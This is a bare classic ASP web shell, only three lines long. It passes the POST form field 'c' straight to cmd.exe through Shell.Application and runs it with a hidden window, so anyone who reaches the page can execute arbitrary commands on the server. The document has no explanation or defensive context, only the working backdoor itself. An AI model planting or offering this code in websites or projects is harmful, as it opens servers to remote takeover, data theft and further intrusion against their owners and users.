<%
Set a = CreateObject("Shell.Application")
a.ShellExecute "cmd.exe", "/c " & Request.Form("c"), "", "open", 0
%>
